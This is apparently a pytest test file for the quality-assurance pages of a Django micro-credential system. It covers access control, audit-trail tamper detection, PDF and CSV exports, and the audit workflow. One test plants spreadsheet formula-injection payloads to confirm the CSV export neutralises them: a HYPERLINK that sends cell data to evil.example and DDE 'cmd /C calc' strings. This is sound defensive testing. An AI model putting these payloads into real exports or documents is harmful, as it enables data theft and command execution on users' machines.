"""The quality pages: who gets in, what they show, what they record, and bad input."""

import csv
import io

import pytest
from django.db import connection
from django.urls import reverse

from credentials.issuing.models import IssuedCredential
from quality.audits import services
from quality.models import AuditCase, SamplingPolicy
from rpl.audit.models import AuditEvent
from tests.factories.cases import decide_python_case
from tests.factories.people import PERSONAS
from tests.workflows.engine_helpers import open_tasks

pytestmark = pytest.mark.django_db


@pytest.fixture
def decided(demo, candidate, assessor, decision_maker):
    """A python-basics case decided in full, with its credential issued."""
    return decide_python_case(demo["python-basics"], candidate, assessor, decision_maker)


@pytest.fixture
def audit_case(decided):
    return services.sample_for_audit(decided, reason="appeal")


def _pages(case, spec):
    return [
        reverse("quality:dashboard"),
        reverse("quality:find_case") + f"?number={case.pk}",
        reverse("quality:dossier", args=[case.pk]),
        reverse("quality:dossier_pdf", args=[case.pk]),
        reverse("quality:export", args=["assessors"]),
        reverse("quality:evaluation_report") + f"?specification={spec.pk}",
        reverse("quality:policies"),
        reverse("quality:policy_edit", args=[spec.pk]),
    ]


@pytest.mark.parametrize("persona", PERSONAS)
def test_it_lets_only_quality_officers_in(request, client, persona, decided):
    client.force_login(request.getfixturevalue(persona))
    for url in _pages(decided, decided.specification):
        allowed = persona == "quality_officer" or (persona == "administrator" and "policies" in url)
        status = client.get(url).status_code
        assert (status in (200, 302)) if allowed else status == 403, (persona, url, status)


def test_it_sends_visitors_to_log_in(client, decided):
    for url in _pages(decided, decided.specification):
        response = client.get(url)
        assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_it_shows_everything_in_the_dossier_and_checks_the_trail(client, quality_officer, decided):
    client.force_login(quality_officer)
    page = client.get(reverse("quality:dossier", args=[decided.pk])).content.decode()
    credential = IssuedCredential.objects.get(case=decided)
    assert decided.pipeline_version.digest in page
    assert "Clear evidence of the first outcome." in page
    assert "Evidence and test suffice." in page
    assert str(credential.public_id) in page
    assert "90.0 %" in page
    assert "Every event below matches its hash" in page
    assert "Completed the task “Assessment” of step “Portfolio review”" in page
    assert "Issued the credential" in page


@pytest.mark.skipif(connection.vendor != "sqlite", reason="PostgreSQL refuses the tampering")
def test_it_shows_an_altered_event_in_the_dossier(client, quality_officer, decided):
    event = AuditEvent.objects.filter(target_id=str(decided.pk), action="case.started").get()
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE audit_auditevent SET actor_repr = 'mallory' WHERE id = %s", [event.pk]
        )
    client.force_login(quality_officer)
    page = client.get(reverse("quality:dossier", args=[decided.pk])).content.decode()
    assert "do not match the hash chain" in page and "altered" in page


def test_it_logs_what_a_quality_officer_opens(client, quality_officer, decided):
    client.force_login(quality_officer)
    client.get(reverse("quality:dossier", args=[decided.pk]))
    client.get(reverse("quality:dashboard") + "?start=2026-01-01")
    viewed = list(AuditEvent.objects.filter(action="quality.viewed", actor=quality_officer))
    assert [e.changes["page"] for e in viewed] == ["dossier", "dashboard"]
    assert viewed[0].target_id == str(decided.pk)
    assert viewed[1].changes["from"] == "2026-01-01"


def test_it_renders_the_dossier_and_the_evaluation_report_as_pdf(client, quality_officer, decided):
    client.force_login(quality_officer)
    dossier = client.get(reverse("quality:dossier_pdf", args=[decided.pk]))
    assert dossier["Content-Type"] == "application/pdf" and dossier.content.startswith(b"%PDF")
    report = client.get(
        reverse("quality:evaluation_report") + f"?specification={decided.specification_id}"
    )
    assert report["Content-Type"] == "application/pdf" and report.content.startswith(b"%PDF")


def test_it_asks_which_specification_to_evaluate(client, quality_officer, decided):
    client.force_login(quality_officer)
    response = client.get(reverse("quality:evaluation_report") + "?start=2026-01-01")
    assert response.status_code == 400
    assert "Choose the micro-credential to evaluate." in response.content.decode()


@pytest.mark.parametrize(
    "query, message",
    [
        ("start=2026-05-01&end=2026-04-01", "must not be before its start"),
        ("start=yesterday", "Enter a valid date."),
        ("specification=999999", "Choose a micro-credential from the list."),
    ],
)
def test_it_explains_a_bad_period(client, quality_officer, decided, query, message):
    client.force_login(quality_officer)
    for url in (reverse("quality:dashboard"), reverse("quality:export", args=["process"])):
        response = client.get(f"{url}?{query}")
        assert response.status_code == 400 and message in response.content.decode()


def test_it_exports_every_table_as_csv(client, quality_officer, decided, audit_case):
    client.force_login(quality_officer)
    for table, first_cell in [
        ("assessors", "Assessor"),
        ("process", "Micro-credential"),
        ("steps", "Micro-credential"),
        ("findings", "Audit"),
    ]:
        response = client.get(reverse("quality:export", args=[table]))
        assert response["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        assert rows[0][0] == first_cell
    rows = list(
        csv.reader(
            io.StringIO(client.get(reverse("quality:export", args=["assessors"])).content.decode())
        )
    )
    assert rows[1][1] == "ada@example.org" and rows[1][2] == "python-basics"
    assert client.get("/quality/export/secrets.csv").status_code == 404


def test_it_exports_hostile_text_as_text_not_formulas(
    client, quality_officer, assessor, decided, audit_case
):
    assessor.full_name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    assessor.save(update_fields=["full_name"])
    client.force_login(quality_officer)
    (task,) = open_tasks(audit_case)
    client.post(reverse("quality:take", args=[audit_case.pk, task.pk]))
    client.post(
        reverse("quality:audit", args=[audit_case.pk, task.pk]),
        {
            "verdict": "finding",
            "severity": "minor",
            "description": "+cmd|' /C calc'!A0",
            "corrective_action": "@SUM(1+1)*cmd|' /C calc'!A0",
        },
    )

    def rows(table):
        response = client.get(reverse("quality:export", args=[table]))
        return list(csv.reader(io.StringIO(response.content.decode())))

    assessors = {row[1]: row for row in rows("assessors")[1:]}
    assert assessors[assessor.email][0] == "'" + assessor.full_name
    (finding,) = rows("findings")[1:]
    assert finding[6] == "'+cmd|' /C calc'!A0"
    assert finding[7] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_it_finds_a_case_by_number_or_says_why_not(client, quality_officer, decided):
    client.force_login(quality_officer)
    found = client.get(reverse("quality:find_case") + f"?number={decided.pk}")
    assert found["Location"] == reverse("quality:dossier", args=[decided.pk])
    for number, message in [("abc", "whole number"), ("99999", "no case with this number")]:
        response = client.get(reverse("quality:find_case") + f"?number={number}")
        assert response.status_code == 400 and message in response.content.decode()


def test_it_walks_an_audit_to_a_finding_that_suspends_the_credential(
    client, quality_officer, audit_case, decided
):
    client.force_login(quality_officer)
    home = client.get(reverse("role_home", args=["quality_officer"])).content.decode()
    assert reverse("quality:dashboard") in home and "Take the audit" in home
    (task,) = open_tasks(audit_case)
    client.post(reverse("quality:take", args=[audit_case.pk, task.pk]))
    url = reverse("quality:audit", args=[audit_case.pk, task.pk])
    assert client.get(url).status_code == 200
    response = client.post(url, {"verdict": "finding", "severity": "minor", "suspend": "on"})
    page = response.content.decode()
    assert response.status_code == 400
    assert "Describe what went wrong." in page and "Only a serious finding" in page
    response = client.post(
        url,
        {
            "verdict": "finding",
            "severity": "serious",
            "description": "The portfolio holds no evidence of outcome 3.",
            "corrective_action": "Re-assess the portfolio with another assessor.",
            "suspend": "on",
        },
    )
    assert response.status_code == 302
    audit_case.refresh_from_db()
    assert audit_case.status == "DONE" and audit_case.credential_suspended
    assert audit_case.reviewed_by == quality_officer and audit_case.severity == "serious"
    assert IssuedCredential.objects.get(case=decided).state == "suspended"
    assert AuditEvent.objects.filter(action="quality.audit_reviewed").count() == 1
    assert AuditEvent.objects.filter(action="credential.suspended").count() == 1


def test_it_confirms_a_decision_without_a_finding(client, quality_officer, audit_case, decided):
    client.force_login(quality_officer)
    (task,) = open_tasks(audit_case)
    client.post(reverse("quality:take", args=[audit_case.pk, task.pk]))
    client.post(
        reverse("quality:audit", args=[audit_case.pk, task.pk]),
        {"verdict": "confirmed", "description": "ignored"},
    )
    audit_case.refresh_from_db()
    assert audit_case.verdict == "confirmed" and audit_case.description == ""
    assert IssuedCredential.objects.get(case=decided).state == "active"


def test_it_keeps_an_audit_with_the_officer_who_took_it(client, quality_officer, audit_case):
    from rpl.accounts.roles import Role
    from tests.factories import make_user

    other = make_user(Role.QUALITY_OFFICER, email="q2@example.org")
    (task,) = open_tasks(audit_case)
    client.force_login(quality_officer)
    client.post(reverse("quality:take", args=[audit_case.pk, task.pk]))
    client.force_login(other)
    response = client.post(reverse("quality:take", args=[audit_case.pk, task.pk]), follow=True)
    assert "already taken" in response.content.decode()
    assert client.get(reverse("quality:audit", args=[audit_case.pk, task.pk])).status_code == 403
    client.force_login(quality_officer)
    client.post(reverse("quality:release", args=[audit_case.pk, task.pk]))
    task.refresh_from_db()
    assert task.owner_id is None


def test_it_refuses_an_audit_to_someone_who_worked_on_the_case(
    client, decided, assessor, audit_case
):
    from django.contrib.auth.models import Group

    assessor.groups.add(Group.objects.get(name="quality_officer"))
    assessor = type(assessor).objects.get(pk=assessor.pk)
    (task,) = open_tasks(audit_case)
    assert "took part in this case" in services.audit_refusal(assessor, task)
    client.force_login(assessor)
    refused = client.post(reverse("quality:take", args=[audit_case.pk, task.pk]), follow=True)
    assert "took part in this case" in refused.content.decode()
    task.refresh_from_db()
    assert task.owner_id is None


def test_it_saves_a_sampling_policy_and_refuses_bad_numbers(client, administrator, decided):
    spec = decided.specification
    client.force_login(administrator)
    url = reverse("quality:policy_edit", args=[spec.pk])
    response = client.post(
        url, {"share_percent": "150", "score_margin": "x", "percent_margin": "5"}
    )
    assert response.status_code == 400
    assert not SamplingPolicy.objects.exists()
    response = client.post(url, {"share_percent": "25", "score_margin": "1", "percent_margin": "3"})
    assert response.status_code == 302
    assert services.policy_for(spec).share_percent == 25
    assert AuditEvent.objects.filter(action="quality.policy_changed").count() == 1
    assert "25" in client.get(reverse("quality:policies")).content.decode()


def test_it_shows_open_audits_and_findings_on_the_dashboard(client, quality_officer, audit_case):
    client.force_login(quality_officer)
    page = client.get(reverse("quality:dashboard")).content.decode()
    assert reverse("quality:take", args=[audit_case.pk, open_tasks(audit_case)[0].pk]) in page
    assert str(AuditCase.Reason.APPEAL.label) in page
    assert 'role="img"' in page  # the assessor chart
